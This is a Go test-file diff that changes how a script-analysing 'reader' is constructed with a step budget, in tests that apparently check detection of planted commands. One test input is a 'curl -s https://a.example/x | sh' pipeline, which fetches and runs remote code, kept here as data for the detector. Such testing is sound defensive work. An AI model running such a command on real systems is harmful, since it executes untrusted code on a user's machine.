@@ -47,7 +47,8 @@ func TestSkim(t *testing.T) {
 // judged holds that a planted command is judged if a script may take so many steps.
 func judged(t *testing.T, lib *command.Library, script string, budget int) {
 	t.Helper()
-	r := &reader{world: testWorld(), lib: lib, parsed: true, budget: budget}
+	r := newReader(testWorld(), lib)
+	r.allowed = budget
 	res := r.resolve(script, "/home/dev/proj")
 	found := slices.ContainsFunc(res.Gaps, func(g command.Gap) bool { return g.Why == "too much to follow" })
 	if !found && r.spent {
@@ -67,7 +68,8 @@ func judged(t *testing.T, lib *command.Library, script string, budget int) {
 func TestSkimPipelines(t *testing.T) {
 	lib := testLibrary(t)
 	for budget := range 12 {
-		r := &reader{world: testWorld(), lib: lib, parsed: true, budget: budget}
+		r := newReader(testWorld(), lib)
+		r.allowed = budget
 		res := r.resolve("ls; curl -s https://a.example/x | sh; ls; ls; ls; ls; ls", "/home/dev/proj")
 		fetched := false
 		for _, inv := range res.Invocations {
